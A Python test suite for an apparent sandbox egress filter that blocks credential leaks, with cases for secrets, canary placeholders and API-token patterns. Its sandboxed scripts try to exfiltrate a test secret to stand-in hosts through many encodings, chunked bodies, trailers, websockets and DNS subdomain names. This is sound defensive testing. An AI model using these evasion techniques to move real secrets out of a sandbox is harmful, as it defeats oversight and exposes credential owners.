"""What must not get out, on every way out; and that nothing else is held up."""

import base64
import gzip
import json
import os
import zlib

from harness import WeirTest, also_as_ordinary_user, main
from standins.server import echo, keep
from standins.websocket_server import WebSocketServer
from test_websockets import CLIENT

SECRET = "real-secret-7f3a9c51e2b84d06"
# A secret that the sandbox knows from elsewhere: in a file of the project, in two halves, so that no script holds it whole.
KNOWN = 'secret = "real-secret-" + "7f3a9c51e2b84d06"\n'
TOKEN = 'token = "sk-ant-api03-" + "Zq8hV3kLw9Xr2TbNc6YfJm4PdGs7UeRa5WoHi1QxKvCzBtMnEyDgSjLpFuAb0-9_kQ8rT5vW2xY7zN4mB1cDgHjKpAA"\n'


class LeakTest(WeirTest):
    def setUp(self):
        super().setUp()
        self.api = self.https("api.test.example", routes={"/": keep})
        self.other = self.https("other.test.example", "*.wide.test.example", routes={"/": keep})
        self.environment["TEST_TOKEN"] = SECRET

    def setting(self, how='inject: {header: Authorization, format: "Bearer {secret}"}', more="", **servers):
        self.policy(f"""
            credentials:
              token:
                from: env:TEST_TOKEN
                hosts: [api.test.example]
                {how}
            rules:
              - hosts: [api.test.example, other.test.example, "*.wide.test.example"]
              - hosts: [other.test.example]
                websocket: true
            {more}
            """, **{"api": self.api, "other": self.other, **servers})

    def refused(self, answer, code, done):
        self.assert_verdict(answer, 403, code, done)


@also_as_ordinary_user
class Secrets(LeakTest):
    def test_in_every_place_and_form_of_a_request_to_another_host(self):
        self.setting()
        done = self.inside(KNOWN + """
import base64, gzip, urllib.parse, zlib
host = "other.test.example"
raw = secret.encode()
def post(body, *headers):
    return ask(request("POST", "/b", host=host, headers=headers, body=body), host=host)
answers = {
    "header": get("/a", host=host, headers=[("X-Note", "see " + secret)]),
    "header name": get("/a", host=host, headers=[(secret, "x")]),
    "path": get("/a/" + secret + "/b", host=host),
    "query": get("/a?q=" + secret, host=host),
    "escaped query": get("/a?q=" + "".join(f"%{b:02x}" if i % 3 else chr(b) for i, b in enumerate(raw)), host=host),
    "base64": get("/a?q=" + urllib.parse.quote(base64.b64encode(raw).decode()), host=host),
    "base64 within": get("/a", host=host, headers=[("X-A", base64.b64encode(b"!" + raw + b"!!").decode())]),
    "base64url": get("/a?q=" + base64.urlsafe_b64encode(b"xx" + raw).decode().rstrip("="), host=host),
    "hex": get("/a", host=host, headers=[("X-A", raw.hex().upper())]),
    "basic": get("/a", host=host, headers=[("Authorization", "Basic " + base64.b64encode(b"u:" + raw).decode())]),
    "bearer": get("/a", host=host, headers=[("Authorization", "Bearer " + secret)]),
    "body": post(b'{"a": "' + raw + b'"}'),
    "body base64": post(base64.b64encode(b"abc" + raw * 2)),
    "body hex": post(raw.hex()),
    "large body": post(b"x" * 50000 + raw + b"y" * 50000),
    "gzip": post(gzip.compress(b"x" * 100000 + raw), ("Content-Encoding", "gzip")),
    "deflate": post(zlib.compress(raw), ("Content-Encoding", "deflate")),
}
report(**answers)
""")
        for name, answer in done.report.items():
            with self.subTest(name):
                self.refused(answer, "credential_leak", done)
        blocked = done.of("credential.blocked", credential="token", host="other.test.example", what="secret")
        self.assertEqual(len(blocked), len(done.report), done)
        self.assertEqual([r for r in self.other.requests if r.path != "/b"], [])
        # Of the one large body a part may have been on its way before: never the secret, never a whole request.
        for request in self.other.requests:
            self.assertNotIn(SECRET.encode(), request.raw_head + request.body)
        self.assertNotIn(SECRET, json.dumps(done.events))

    def test_behind_much_that_may_stand_there_and_under_two_encodings(self):
        self.setting()
        self.policy("""
            credentials:
              token: {from: "env:TEST_TOKEN", hosts: [api.test.example], inject: {header: X-Key, format: "{secret}"}}
              own: {from: "env:OWN", hosts: [other.test.example], inject: {header: X-Own, format: "{secret}"}}
            rules: [{hosts: [other.test.example]}]
            """, other=self.other)
        self.environment["OWN"] = "own-secret-0123456789"
        done = self.inside(KNOWN + """
import gzip
host = "other.test.example"
own = "own-secret-" + "0123456789"
report(a=get("/a", host=host, headers=[("X-A", own + " ")] * 80 + [("X-B", secret)]),
       b=ask(request("POST", "/b", host=host, headers=[("Content-Encoding", "gzip"), ("Content-Encoding", "identity")],
                     body=gzip.compress(secret.encode())), host=host))
""")
        self.refused(done.report["a"], "credential_leak", done)
        self.refused(done.report["b"], "credential_leak", done)

    def test_across_chunks_and_pieces(self):
        self.setting()
        done = self.inside(KNOWN + """
import time
host = "other.test.example"
wire = Wire(host=host)
wire.send(f"POST /b HTTP/1.1\\r\\nHost: {host}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
try:
    for c in "x" * 40 + secret + "y" * 40:
        wire.send(f"1\\r\\n{c}\\r\\n")
    wire.send("0\\r\\n\\r\\n")
except OSError:
    pass
got = wire.answer()
report(status=got.status, headers=got.headers)
""")
        self.assertEqual((done.report["status"], done.report["headers"]["x-weir-verdict"].split()[-1]), (403, "credential_leak"), done)
        self.assertEqual([r for r in self.other.requests if b"7f3a9c51" in r.body], [])

    def test_in_a_trailer(self):
        self.setting()
        done = self.inside(KNOWN + """
host = "other.test.example"
wire = Wire(host=host)
wire.send(f"POST /b HTTP/1.1\\r\\nHost: {host}\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: X-T\\r\\n\\r\\n2\\r\\nok\\r\\n0\\r\\nX-T: {secret}\\r\\n\\r\\n")
report(status=wire.answer().status)
""")
        self.assertEqual(done.report["status"], 403, done)
        self.assertEqual(done.of("credential.blocked")[0]["place"], "trailer", done)

    def test_in_a_websocket(self):
        server = WebSocketServer(self.authority.server_context("other.test.example"))
        self.addCleanup(server.close)
        self.setting(other=server)
        done = self.inside(CLIENT.replace("{API}", "other.test.example") + KNOWN + """
async def main():
    socket = await talk()
    await socket.send("hello")
    first = await socket.recv()
    try:
        await socket.send("a" * 10 + secret)
        got = await socket.recv()
    except websockets.ConnectionClosed as error:
        got = error.rcvd and error.rcvd.code
    report(first=first, got=got)
run(main)
""")
        self.assertEqual(done.report, {"first": "hello", "got": 1008}, done)
        tunnel, = done.of("egress.tunnel")
        self.assertEqual(tunnel["end"], "cut", done)
        self.assertTrue(done.of("credential.blocked", place="websocket"), done)

    def test_in_a_name(self):
        self.setting()
        done = self.inside(KNOWN + """
import base64
raw = secret.encode()
get("/")
names = [secret, secret[:14] + "." + secret[14:], raw.hex(), base64.b32encode(raw).decode().rstrip("=").lower(), "harmless"]
report(found=[failure(lambda: socket.getaddrinfo(name + ".wide.test.example", 443)) for name in names])
""")
        self.assertEqual([f is None for f in done.report["found"]], [False] * 4 + [True], done)

    def test_at_its_own_host_it_may_go(self):
        self.setting()
        done = self.inside(KNOWN + 'report(s=get("/a?own=" + secret)["status"])')
        self.assertEqual(done.report, {"s": 200}, done)

    def test_text_like_it_is_left_alone(self):
        self.setting(more="leaks: off")
        done = self.inside(KNOWN + """
host = "other.test.example"
texts = [secret[:-1], secret[1:], secret.upper(), secret[::-1], "real-secret-", "xxxx" + secret[:12]]
report(s=[ask(request("POST", "/b", host=host, body=text), host=host)["status"] for text in texts])
""")
        self.assertEqual(done.report["s"], [200] * 6, done)
        self.assertEqual(done.of("credential.blocked"), [], done)

    def test_before_the_credential_was_ever_used(self):
        self.setting()
        done = self.inside(KNOWN + 'report(a=get("/x?" + secret, host="other.test.example"))')
        self.refused(done.report["a"], "credential_leak", done)
        self.assertEqual(done.of("credential.used"), [], done)

    def test_a_value_that_was_renewed_and_the_one_before(self):
        count = self.write("count", "", folder=self.root)
        self.policy(f"""
            credentials:
              token:
                from: {{exec: [/bin/sh, -c, 'echo x >> {count}; echo current-secret-$(wc -l < {count})-0123456789']}}
                ttl: 1s
                hosts: [api.test.example]
                inject: {{header: Authorization, format: "Bearer {{secret}}"}}
            rules: [{{hosts: [api.test.example, other.test.example]}}]
            """, api=self.api, other=self.other)
        running = self.start_python("""
            get("/")
            sync("renewed")
            get("/")
            report(a=[get("/x?current-secret-%d-0123456789" % n, host="other.test.example")["status"] for n in range(1, 30)])
        """)
        running.reached("renewed")
        running.wait_for_event("vault.renewed", new_value=True)
        running.go("renewed")
        done = running.finish()
        self.assertIn(403, done.report["a"], done)
        self.assertIn(200, done.report["a"], done)


@also_as_ordinary_user
class Placeholders(LeakTest):
    SUBSTITUTE = 'substitute: {env: API_KEY, shape: "sk_live_{random:24}"%s}'

    def test_elsewhere_it_is_a_canary(self):
        self.setting(self.SUBSTITUTE % "")
        done = self.inside("""
            key, host = os.environ["API_KEY"], "other.test.example"
            report(a=get("/?k=" + key, host=host), b=ask(request("POST", "/b", host=host, body=key), host=host), own=get("/?k=" + key)["status"])
        """)
        self.refused(done.report["a"], "placeholder_elsewhere", done)
        self.refused(done.report["b"], "placeholder_elsewhere", done)
        self.assertEqual(done.report["own"], 200, done)
        self.assertEqual(self.other.requests, [])
        self.assertEqual(len(done.of("credential.blocked", what="placeholder", verdict="deny")), 2, done)

    def test_elsewhere_log_lets_it_pass(self):
        self.setting(self.SUBSTITUTE % ", elsewhere: log")
        done = self.inside("""
            key = os.environ["API_KEY"]
            report(a=get("/?k=" + key, host="other.test.example")["status"])
        """)
        self.assertEqual(done.report["a"], 200, done)
        self.assertEqual(done.of("leak.found")[0]["what"], "placeholder", done)
        self.assertIn("sk_live_", self.other.requests[0].target)

    def test_its_shape_alone_is_nothing(self):
        self.setting(self.SUBSTITUTE % "", more="leaks: off")
        done = self.inside("""
            key = os.environ["API_KEY"]
            report(a=[get("/?k=" + text, host="other.test.example")["status"] for text in ("sk_live_", key[:-1], key[:8] + key[8:][::-1])])
        """)
        self.assertEqual(done.report["a"], [200] * 3, done)


@also_as_ordinary_user
class Tokens(LeakTest):
    SEND = TOKEN + """
host = "other.test.example"
report(head=get("/a", host=host, headers=[("X-Key", token)]), body=ask(request("POST", "/b", host=host, body='{"k": "' + token + '"}'), host=host),
       none=get("/c", host=host)["status"])
"""

    def test_they_are_logged_unless_the_policy_says_otherwise(self):
        self.setting()
        done = self.inside(self.SEND)
        self.assertEqual([done.report["head"]["status"], done.report["body"]["status"]], [200, 200], done)
        found = done.of("leak.found", what="token")
        self.assertEqual([(f["place"], f["verdict"]) for f in found], [("header X-Key", "log"), ("body", "log")], done)
        self.assertIn("anthropic", found[0]["kind"])
        self.assertNotIn("Zq8hV3kLw9", json.dumps(done.events))

    def test_deny(self):
        self.setting(more="leaks: deny")
        done = self.inside(self.SEND)
        self.refused(done.report["head"], "token_leak", done)
        self.refused(done.report["body"], "token_leak", done)
        self.assertEqual(done.report["none"], 200, done)

    def test_a_body_that_cannot_be_looked_into(self):
        for leaks, status in (("deny", 415), ("log", 200)):
            with self.subTest(leaks):
                self.setting(more=f"leaks: {leaks}")
                done = self.inside("""
host = "other.test.example"
report(a=ask(request("POST", "/b", host=host, headers=[("Content-Encoding", "zstd")], body="\\x28\\xb5\\x2f\\xfd" + "x" * 40000), host=host)["status"])
""")
                self.assertEqual(done.report, {"a": status}, done)
                if leaks == "log":
                    self.assertTrue(done.of("egress.response")[0]["unsearched"], done)

    def test_a_client_that_is_still_sending_gets_to_read_the_refusal(self):
        self.setting(more="leaks: deny")
        done = self.inside(TOKEN + """
host = "other.test.example"
wire = Wire(host=host)
body = "x " * 20000 + token + " y" * 300000
wire.send(request("POST", "/b", host=host, body=body))
got = wire.answer()
report(status=got.status, again=wire.send(request("GET", "/c", host=host)).answer().status)
""")
        self.assertEqual(done.report, {"status": 403, "again": 200}, done)

    def test_weirs_own_placeholders_are_no_tokens(self):
        self.setting(Placeholders.SUBSTITUTE.replace("sk_live_{random:24}", "sk-ant-api03-{random:93}AA") % ", in: [header]", more="leaks: deny")
        done = self.inside("""
            key = os.environ["API_KEY"]
            report(a=get("/", headers=[("X-Key", key)])["status"], b=ask(request("POST", "/b", body='{"k": "' + key + '"}'))["status"])
        """)
        self.assertEqual(done.report, {"a": 200, "b": 200}, done)
        self.assertEqual(self.api.requests[0].get("x-key"), SECRET)

    def test_off(self):
        self.setting(more="leaks: off")
        done = self.inside(self.SEND)
        self.assertEqual(done.of("leak.found"), [], done)

    def test_ask(self):
        self.setting(more="leaks: ask")
        running = self.start_python(TOKEN + """
host = "other.test.example"
report(a=ask(request("POST", "/b", host=host, body='{"k": "' + token + '"}'), host=host)["status"])
""", )
        asked = running.wait_for_event("approval.requested")
        self.assertEqual(asked["operation"], "token", asked)
        self.assertEqual(self.weir("approve").status, 0)
        done = running.finish()
        self.assertEqual(done.report, {"a": 200}, done)

    def test_a_body_too_large_to_ask_about_is_denied(self):
        self.setting(more="leaks: ask\n            limits: {inspected_body: 64KiB}")
        done = self.inside(TOKEN + """
host = "other.test.example"
report(a=ask(request("POST", "/b", host=host, body="x " * 60000 + token + " y" * 60000), host=host)["status"])
""")
        self.assertEqual(done.report, {"a": 403}, done)


if __name__ == "__main__":
    main()
